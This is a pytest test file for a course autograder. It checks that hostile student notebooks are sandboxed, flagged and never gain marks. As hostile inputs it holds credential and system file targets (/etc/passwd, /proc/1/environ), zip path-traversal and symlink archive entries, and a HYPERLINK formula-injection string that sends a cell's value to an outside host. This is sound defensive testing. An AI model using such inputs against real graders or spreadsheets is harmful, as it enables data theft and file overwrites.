"""Hostile submissions: each is contained or flagged, none changes another's mark, none stops the rest."""

from __future__ import annotations

import os
import resource
import socket
import zipfile
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass
from multiprocessing import get_context
from pathlib import Path
from threading import Thread
from typing import Any

import nbformat
import pytest

from infrapm.course.files import csv_text
from infrapm.course.folder import Course, new_course
from infrapm.course.grade import Graded, grade, read_record
from infrapm.course.gradebook import opened
from infrapm.course.handout import hand_out
from infrapm.course.leaks import chapter_secrets
from infrapm.course.questions import notebooks, questions
from infrapm.course.sandbox import Limits
from infrapm.course.status import status_text
from tests.course import pupils
from tests.course.pupils import DAMAGED, HOSTILE, SLUG, needs_sandbox, quiet, released

pytestmark = needs_sandbox

FAST = Limits(memory_mb=600, cell_s=1, cpu_s=4, total_s=20)
# The attackers' own work: nothing but one right task, so that a mark above it would be a mark they took.
ONE_TASK = 2.0
DELETED = "deleted-tests"


@dataclass(frozen=True)
class Graveyard:
    """The class of hostile students and one honest one, after it was graded once."""

    course: Course
    done: Graded
    scores: dict[str, dict[str, float | None]]
    children_mb: float

    def record(self, student: str) -> dict[str, Any]:
        record = read_record(self.course, SLUG, student)
        assert record is not None
        return record

    def output(self, student: str) -> str:
        record = self.record(student)
        return "\n".join([*record["outputs"].values(), *record["errors"].values()])

    def total(self, student: str) -> float:
        return sum(score or 0 for score in self.scores[student].values())


@pytest.fixture(scope="module")
def graveyard(tmp_path_factory: pytest.TempPathFactory) -> Graveyard:
    folder = tmp_path_factory.mktemp("hostile")
    names = ["honest", *HOSTILE, *DAMAGED, DELETED, "edited-tests", "symlink", "200-mb", "wrong-notebook", "another-code", "pipe"]
    course = new_course(folder / "sre-2026", [SLUG], pupils.students(*names), seed="a course's own seed")
    hand_out(course, SLUG)
    copy, code = released(course), course.code(SLUG)
    downloads = folder / "downloads"
    one = pupils.partial(SLUG, copy, code, 1)
    listener = socket.create_server(("127.0.0.1", 0))
    Thread(target=_accept, args=(listener,), daemon=True).start()
    spoils = {
        "PLACES": [str(course.path), str(downloads), str(notebooks()), "/etc", "/etc/passwd", "/proc/1/environ"],
        "ADDRESSES": [("127.0.0.1", listener.getsockname()[1]), ("1.1.1.1", 53)],
        "SECRETS": [secret.text for secret in chapter_secrets(SLUG, copy)],
    }
    given = "".join(f"{name} = {value!r}\n" for name, value in spoils.items())
    for name, source in HOSTILE.items():
        notebook = pupils.with_code(one, source)
        if name == "patched-equality":
            notebook = pupils.filled(notebook, {"spend-answer": "spend = Always('no-such-key')"})
        if name == "patched-builtins":
            notebook = pupils.filled(notebook, {"delivered-answer": "delivered = 0.5"})
        if name == "patched-check":
            notebook = pupils.filled(notebook, {"delivered-answer": "delivered = 0.5", "ceiling-answer": "ceiling = -1"})
        notebook.cells[2].source = (given if any(word in source for word in spoils) else "") + source
        pupils.save(notebook, downloads / f"{name}.ipynb")
    whole = (nbformat.writes(one) + "\n").encode()
    for name, damage in DAMAGED.items():
        (downloads / f"{name}.ipynb").write_bytes(damage(whole))
    pupils.save(pupils.right(SLUG, copy, code), downloads / "honest.ipynb")
    deleted = pupils.blank(one)
    deleted.cells = [cell for cell in deleted.cells if not cell.source.startswith("check(")]
    pupils.save(deleted, downloads / f"{DELETED}.ipynb")
    edited = pupils.filled(one, {cell.id: "print('Got it')" for cell in one.cells if cell.source.startswith("check(")})
    pupils.save(edited, downloads / "edited-tests.ipynb")
    (downloads / "symlink.ipynb").symlink_to(course.path / "course.toml")
    with (downloads / "200-mb.ipynb").open("wb") as file:
        file.truncate(200 * 2**20)
    other = pupils.blank(copy)
    other.cells = [nbformat.v4.new_code_cell("month_budget_min = 1")]
    other.metadata["infrapm"]["chapter"] = "consistency"
    pupils.save(other, downloads / "wrong-notebook.ipynb")
    swapped = pupils.right(SLUG, copy, code)
    for cell in swapped.cells:
        cell.source = cell.source.replace(code, "AAAA-AAAA-AAAA")
    swapped.metadata["infrapm"]["numbers"] = "AAAA-AAAA-AAAA"
    pupils.save(swapped, downloads / "another-code.ipynb")
    os.mkfifo(downloads / "pipe.ipynb")

    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as own:
        done, children_mb = own.submit(_graded, course, downloads).result()
    listener.close()
    with opened(course) as marks:
        scores = marks.scores(SLUG)
    return Graveyard(course, done, scores, children_mb)


def _graded(course: Course, downloads: Path) -> tuple[Graded, float]:
    """Grade in this process, which has no other children; and the most memory, in MB, that one of them held.

    Linux counts a child's memory from its parent's at the fork: in the process of the tests it would be that of
    whatever tests ran before."""
    done = grade(course, SLUG, downloads, quiet, limits=FAST)
    return done, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024


def _accept(listener: socket.socket) -> None:
    """Prove that the address answers from outside the sandbox."""
    try:
        while True:
            listener.accept()
    except OSError:
        pass


# --- All of them


def test_every_submission_that_can_be_read_is_graded(graveyard: Graveyard) -> None:
    refused = {path for path, _ in graveyard.done.collected.refused}
    assert refused == {"symlink.ipynb", "200-mb.ipynb", "pipe.ipynb", "large.ipynb"}
    assert graveyard.done.failed == [] and graveyard.done.collected.unknown == []
    expected = {"honest", *HOSTILE, *DAMAGED, DELETED, "edited-tests", "another-code"} - {"large", "empty"}
    assert set(graveyard.scores) == expected
    assert graveyard.done.collected.instead == {
        "empty": "empty.ipynb is no notebook",
        "wrong-notebook": "wrong-notebook.ipynb is the notebook of consistency",
    }


def test_the_honest_student_has_every_point_that_models_give(graveyard: Graveyard) -> None:
    own = graveyard.scores["honest"]
    assert own == {q.id: None if q.kind == "judgment" else q.points for q in questions(SLUG)}
    assert graveyard.record("honest")["odd"] == []


@pytest.mark.parametrize("name", HOSTILE)
def test_nobody_gains_and_nobody_finds_anything(graveyard: Graveyard, name: str) -> None:
    assert graveyard.total(name) in (0, ONE_TASK)
    output = graveyard.output(name)
    assert "LOOT [" not in output or "LOOT []" in output
    assert "LOOT" not in output.replace("LOOT []", "")


SURVIVES = {"reads-files", "network", "memory", "memory-at-once", "memory-in-files", "memory-elsewhere", "endless-loop", "fork-bomb",
            "fork-bomb-by-hand", "polite-exit", "kills", "patched-builtins", "patched-equality", "patched-check",
            "huge-output", "huge-output-past-python", "prints-hidden-tests", "broken-syntax", "markup"}  # fmt: skip


@pytest.mark.parametrize("name", sorted(SURVIVES))
def test_the_rest_of_a_notebook_counts_after_a_bad_cell(graveyard: Graveyard, name: str) -> None:
    assert graveyard.record(name)["ended"] == "done"
    assert graveyard.scores[name]["month_budget"] == ONE_TASK


@pytest.mark.parametrize(
    "name, ended",
    [("exit", "crashed"), ("crash", "crashed"), ("endless-loop-unstopped", "crashed"), ("sleeps-unstopped", "too long"), ("huge-results", "too much")],
)
def test_a_run_that_breaks_off_says_so(graveyard: Graveyard, name: str, ended: str) -> None:
    record = graveyard.record(name)
    assert record["ended"] == ended
    assert any("at a cell of the student's own" in odd for odd in record["odd"])
    assert graveyard.total(name) == 0


@pytest.mark.parametrize("name", [*HOSTILE, *DAMAGED, DELETED, "edited-tests", "another-code"])
def test_every_attack_is_flagged(graveyard: Graveyard, name: str) -> None:
    if name in ("large", "empty"):
        return  # never came in
    quiet_ones = {"memory", "memory-at-once", "endless-loop", "huge-output", "polite-exit", "broken-syntax", "deep-syntax", "markup"}
    if name in quiet_ones - {"polite-exit"}:
        return  # a slip of an honest student looks the same; its cell shows the error
    text = status_text(graveyard.course, [SLUG])
    assert f"    {name}: " in text


def test_memory_and_time_stay_within_their_limits(graveyard: Graveyard) -> None:
    # Resident memory of the largest process that this test started, sandboxes included.
    assert graveyard.children_mb < FAST.memory_mb + 100
    for name in graveyard.scores:
        assert graveyard.record(name)["took_s"] < FAST.total_s + 5
    written = int(graveyard.output("memory-in-files").split("WROTE ")[1].split()[0])
    assert 10 < written < 150  # megabytes, in two places of 64


# --- The two attacks that are known to fool tests in the student's own process


def test_a_patched_abs_fools_the_check_in_its_process_and_not_the_grader(graveyard: Graveyard) -> None:
    record = graveyard.record("patched-builtins")
    assert "Got it" in record["outputs"]["delivered-check"]  # the attack works where it is made
    assert graveyard.scores["patched-builtins"]["delivered"] == 0
    assert any("built-in functions were replaced: abs" in odd for odd in record["odd"])


def test_a_patched_equality_fools_the_check_in_its_process_and_not_the_grader(graveyard: Graveyard) -> None:
    record = graveyard.record("patched-equality")
    assert "Got it" in record["outputs"]["spend-check"]
    assert record["values"]["spend-check"] == {"text": "no-such-key"}
    assert graveyard.scores["patched-equality"]["spend"] == 0


def test_a_patched_task_fools_the_check_in_its_process_and_not_the_grader(graveyard: Graveyard) -> None:
    assert "Got it" in graveyard.output("patched-check")
    assert graveyard.total("patched-check") == ONE_TASK


# --- Single ones


def test_made_up_results_are_no_marks(graveyard: Graveyard) -> None:
    assert graveyard.total("made-up-results") <= ONE_TASK
    assert graveyard.total("deep-results") == ONE_TASK


def test_deleted_and_edited_tests_do_not_matter(graveyard: Graveyard) -> None:
    for name in (DELETED, "edited-tests"):
        assert graveyard.scores[name]["month_budget"] == ONE_TASK
    assert [odd for odd in graveyard.record(DELETED)["odd"] if odd.startswith("4 cells ") and odd.endswith(" are missing")]
    assert sum("was edited" in odd for odd in graveyard.record("edited-tests")["odd"]) == 4


def test_a_changed_number_code_changes_no_question(graveyard: Graveyard) -> None:
    own = graveyard.scores["another-code"]
    assert own["month_budget"] == ONE_TASK  # right for the numbers that were handed out, whatever the file says
    assert any("number code" in odd for odd in graveyard.record("another-code")["odd"])


@pytest.mark.parametrize("name", [name for name in DAMAGED if name not in ("large", "empty")])
def test_what_is_no_notebook_says_why(graveyard: Graveyard, name: str) -> None:
    assert graveyard.record(name)["problem"]
    assert graveyard.total(name) == 0
    page = (graveyard.course.path / "feedback" / name / SLUG / f"{SLUG}.html").read_text()
    assert "could not be graded" in page


def test_feedback_shows_markup_as_text_and_no_secret(graveyard: Graveyard) -> None:
    secrets = [secret.text for secret in chapter_secrets(SLUG, released(graveyard.course))]
    for name in graveyard.scores:
        page = (graveyard.course.path / "feedback" / name / SLUG / f"{SLUG}.html").read_text()
        assert "<script" not in page and "HIDDEN TESTS" not in page
        assert not [secret for secret in secrets if secret in page]


def test_the_grade_book_has_nobody_s_mark_but_one_s_own(graveyard: Graveyard) -> None:
    """Graded alone, in a course of its own, the honest student has the same marks and the same page."""
    course = graveyard.course
    with opened(course) as marks:
        changes = [change for change in marks.changes() if change["student"] == "honest"]
    assert [change["why"] for change in changes] == ["first graded"] * len(changes)
    assert len(changes) == len(questions(SLUG)) and changes[-1]["new"] == "waiting"


# --- Archives


def test_an_archive_cannot_write_elsewhere_or_grow_without_end(course: Course, tmp_path: Path) -> None:
    copy = released(course)
    notebook = (nbformat.writes(pupils.partial(SLUG, copy, course.code(SLUG), 1)) + "\n").encode()
    outside = tmp_path / "outside.ipynb"
    with zipfile.ZipFile(tmp_path / "all.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"../../{outside.name}", notebook)
        archive.writestr(f"/{outside.relative_to('/')}", notebook)
        archive.writestr("ann_lee/availability.ipynb", notebook)
        archive.writestr("bob/availability.ipynb", b"0" * 11 * 2**20)  # 11 MB in 11 kB
        link = zipfile.ZipInfo("cem/availability.ipynb")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(course.path / "course.toml"))
        archive.writestr("dana/hers.zip", b"PK\x03\x04 broken")
    done = grade(course, SLUG, tmp_path / "all.zip", quiet, limits=FAST)
    assert not outside.exists()
    assert done.collected.new == ["ann"]
    assert {path: why for path, why in done.collected.refused} == {
        "bob/availability.ipynb": "it has more than 10 MB",
        "cem/availability.ipynb": "it is a link to another file",
        "dana/hers.zip": "the archive is broken: File is not a zip file",
    }


def test_a_formula_in_an_answer_is_text_in_the_sheet(course: Course, tmp_path: Path) -> None:
    essay = '=HYPERLINK("http://example.org/"&A1)'
    pupils.save(pupils.right(SLUG, released(course), course.code(SLUG), essay=essay), tmp_path / "in" / "ann.ipynb")
    grade(course, SLUG, tmp_path / "in", quiet, limits=FAST)
    sheet = (course.path / "marking" / f"{SLUG}.csv").read_text(encoding="utf-8-sig")
    assert "\"'=HYPERLINK" in sheet
    assert csv_text(["a"], [{"a": "-3"}, {"a": "@x"}]) == "\ufeffa\n-3\n'@x\n"
